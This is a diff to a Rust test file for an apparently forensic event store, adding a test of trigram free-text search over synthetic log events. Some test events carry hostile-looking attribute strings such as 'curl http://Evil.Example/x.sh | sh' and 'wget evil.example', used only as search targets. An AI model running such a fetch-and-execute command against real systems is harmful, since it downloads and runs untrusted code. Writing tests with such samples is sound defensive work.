@@ -81,10 +81,10 @@ where
 #[tokio::test]
 async fn migrations_are_versioned_and_rerunnable() {
     for_each_backend(|db| async move {
-        assert_eq!(db.store().schema_version().await.unwrap(), 4);
+        assert_eq!(db.store().schema_version().await.unwrap(), 7);
         // Opening again re-runs the migrator, which must be a no-op.
         let again = Store::connect(db.url()).await.unwrap();
-        assert_eq!(again.schema_version().await.unwrap(), 4);
+        assert_eq!(again.schema_version().await.unwrap(), 7);
     })
     .await;
 }
@@ -542,6 +542,82 @@ async fn evidence_alarms_and_audit_are_recorded() {
             .map(|e| e.action)
             .collect();
         assert_eq!(trail, ["first", "second", "third"]);
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn free_text_search_finds_rare_and_frequent_terms_in_messages_and_attributes() {
+    for_each_backend(|db| async move {
+        let s = db.store();
+        let (a, b) = (investigation(vec![]), investigation(vec![]));
+        let mut conn = s.pool().acquire().await.unwrap();
+        Store::create_investigation(&mut conn, &a).await.unwrap();
+        Store::create_investigation(&mut conn, &b).await.unwrap();
+        // More events share "accepted" than the trigram index's rare-term limit, so that
+        // term takes the row-by-row path and the others the index.
+        let logon = |i: i64| {
+            event(
+                Some(1_700_000_000 + i),
+                Action::UserLogon,
+                &format!("user{i}"),
+                &format!("Accepted password for user{i} from 10.0.{}.{}", i / 256, i % 256),
+            )
+        };
+        let mut events: Vec<Event> = (0..25_000).map(logon).collect();
+        events[12_345] = events[12_345]
+            .clone()
+            .with("cmd", "curl http://Evil.Example/x.sh | sh -c 'say \"hi\"'")
+            .with("file_name", "ÜNÏCODE.txt");
+        Store::insert_events(&mut conn, a.id, 0, &events).await.unwrap();
+        let other = logon(7).with("cmd", "wget evil.example");
+        Store::insert_events(&mut conn, b.id, 0, &[other]).await.unwrap();
+
+        let hits = |term: &str, limit: i64| {
+            let q = TimelineQuery {
+                text: Some(term.into()),
+                limit: Some(limit),
+                ..Default::default()
+            };
+            let s = s.clone();
+            let inv = a.id;
+            async move {
+                let page = s.timeline(inv, &q).await.unwrap();
+                let mut seqs: Vec<u64> = page.events.iter().map(|t| t.seq).collect();
+                seqs.sort();
+                (seqs, page.next_cursor.is_some())
+            }
+        };
+        // An attribute value, any case, never another investigation's events.
+        assert_eq!(hits("EVIL.example", 100).await, (vec![12_345], false));
+        assert_eq!(hits("say \"hi\"", 100).await, (vec![12_345], false));
+        assert_eq!(hits("ünïcode", 100).await, (vec![12_345], false));
+        // Exact substrings: the index is only a prefilter.
+        let expected: Vec<u64> = std::iter::once(1234).chain(12_340..12_350).collect();
+        assert_eq!(hits("user1234 ", 100).await.0, vec![1234]);
+        assert_eq!(hits("user1234", 100).await.0, expected);
+        // Short terms (no trigram) still work.
+        assert_eq!(hits("| s", 100).await, (vec![12_345], false));
+        // A frequent term fills a page and pages on.
+        let (page, more) = hits("ACCEPTED password", 100).await;
+        assert_eq!((page.len(), more), (100, true));
+        assert_eq!(page, (0..100).collect::<Vec<u64>>());
+
+        // Reprocessing keeps the index in step with the events.
+        Store::delete_events(&mut conn, a.id).await.unwrap();
+        let again = logon(1).with("cmd", "curl evil.example");
+        Store::insert_events(&mut conn, a.id, 0, &[again]).await.unwrap();
+        assert_eq!(hits("evil.example", 100).await, (vec![0], false));
+        assert_eq!(hits("accepted", 100).await, (vec![0], false));
+        if s.backend() == riposte_store::Backend::Sqlite {
+            let indexed: i64 = sqlx::query_scalar(
+                "SELECT COUNT(*) FROM events_search WHERE events_search MATCH '\"evi\" AND \"xam\"'",
+            )
+            .fetch_one(s.pool())
+            .await
+            .unwrap();
+            assert_eq!(indexed, 2, "the trigram index holds exactly the live events");
+        }
     })
     .await;
 }
